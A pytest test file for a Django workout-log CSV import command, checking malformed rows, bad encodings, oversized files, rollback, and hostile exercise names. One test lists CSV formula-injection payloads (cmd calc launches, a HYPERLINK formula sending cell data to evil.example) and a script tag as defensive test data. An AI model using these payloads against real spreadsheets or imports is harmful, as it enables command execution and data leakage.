"""``import_workouts`` with hostile files: a clear error naming the line, or safe handling;
never a traceback, never half an import."""

from __future__ import annotations

import time

import pytest
from django.core.management import CommandError, call_command

from core.models import Satz, Trainingseinheit, Uebung

pytestmark = pytest.mark.django_db

HEADER = "date,workout,exercise,set_order,weight_kg,reps,rpe,set_type\n"


def _rows(n: int, exercise: str = "Kniebeuge") -> str:
    return "".join(
        f"2023-{1 + (i // 3) // 28:02d}-{1 + (i // 3) % 28:02d}T18:00:00,Beine,{exercise},"
        f"{i % 3 + 1},{80 + i % 5},5,8,normal\n"
        for i in range(n)
    )


def _nothing_written(user) -> bool:
    return not (
        Satz.objects.filter(einheit__user=user).exists()
        or Trainingseinheit.objects.filter(user=user).exists()
        or Uebung.objects.filter(owner=user).exists()
    )


def _import(path, user, *extra):
    call_command("import_workouts", str(path), "--user", user.username, *extra)


@pytest.mark.parametrize(
    ("bad_row", "fragment"),
    [
        ("2023-05-01T18:00:00,Beine,Kniebeuge,1,achtzig,5,8,normal", "weight_kg"),
        ("kein-datum,Beine,Kniebeuge,1,80,5,8,normal", "kein-datum"),
        ("2023-05-01T18:00:00,Beine,Kniebeuge,1,80", "Spalten"),
        ('2023-05-01T18:00:00,"Beine,Kniebeuge,1,80,5,8,normal', "Spalten"),  # open quote
    ],
)
def test_bad_row_after_many_good_ones_imports_nothing(tmp_path, user_a, bad_row, fragment):
    path = tmp_path / "log.csv"
    path.write_text(HEADER + _rows(600) + bad_row + "\n" + _rows(60), encoding="utf-8")
    with pytest.raises(CommandError) as excinfo:
        _import(path, user_a, "--format", "normalized")
    message = str(excinfo.value)
    assert "Zeile 602" in message  # header + 600 good rows
    assert fragment in message
    assert "nichts importiert" in message
    assert _nothing_written(user_a)


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"", "leer"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20, "Binärdaten"),
        ("Kniebeuge;80;5\n".encode("utf-16-le") * 20, "Binärdaten"),
        (b"\xff\xfe" + b"\x00\xd8" * 10, "UTF-16"),
    ],
)
def test_wrong_encodings_and_binary_are_refused(tmp_path, user_a, content, fragment):
    path = tmp_path / "log.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError, match=fragment):
        _import(path, user_a)
    assert _nothing_written(user_a)


def test_cp1252_file_is_read_with_its_umlauts(tmp_path, user_a):
    path = tmp_path / "log.csv"
    path.write_bytes((HEADER + _rows(3, exercise="Überkopfdrücken")).encode("cp1252"))
    _import(path, user_a, "--format", "normalized")
    assert Uebung.objects.get(owner=user_a).name == "Überkopfdrücken"
    assert Satz.objects.filter(einheit__user=user_a).count() == 3


def test_50_mb_file_is_refused_fast_without_reading_it(tmp_path, user_a):
    path = tmp_path / "huge.csv"
    block = _rows(3000).encode()
    with open(path, "wb") as fh:
        fh.write(HEADER.encode())
        while fh.tell() < 50 * 1024 * 1024:
            fh.write(block)
    started = time.perf_counter()
    with pytest.raises(CommandError, match="zu groß"):
        _import(path, user_a)
    assert time.perf_counter() - started < 2.0
    assert _nothing_written(user_a)


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"klick")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "<script>alert(1)</script>",
    ],
)
def test_formula_and_markup_names_are_stored_verbatim(tmp_path, user_a, name):
    """Names are data: stored exactly (no evaluation, no silent change) and escaped on output."""
    quoted = '"' + name.replace('"', '""') + '"'
    rows = "".join(
        f"2023-03-0{i + 1}T18:00:00,{quoted},{quoted},1,80,5,8,normal\n" for i in range(2)
    )
    path = tmp_path / "log.csv"
    path.write_text(HEADER + rows, encoding="utf-8")
    _import(path, user_a, "--format", "normalized")
    stored = Uebung.objects.get(owner=user_a).name
    assert stored.strip() == name.strip()
    assert set(Trainingseinheit.objects.filter(user=user_a).values_list("name", flat=True)) == {
        stored
    }
    assert Satz.objects.filter(einheit__user=user_a).count() == 2


def test_reimport_after_a_failed_import_imports_everything_once(tmp_path, user_a):
    """A refused file leaves no trace that would make the corrected file import partially."""
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + _rows(30) + "x,y\n", encoding="utf-8")
    with pytest.raises(CommandError):
        _import(bad, user_a, "--format", "normalized")
    good = tmp_path / "good.csv"
    good.write_text(HEADER + _rows(30), encoding="utf-8")
    _import(good, user_a, "--format", "normalized")
    _import(good, user_a, "--format", "normalized")
    assert Satz.objects.filter(einheit__user=user_a).count() == 30
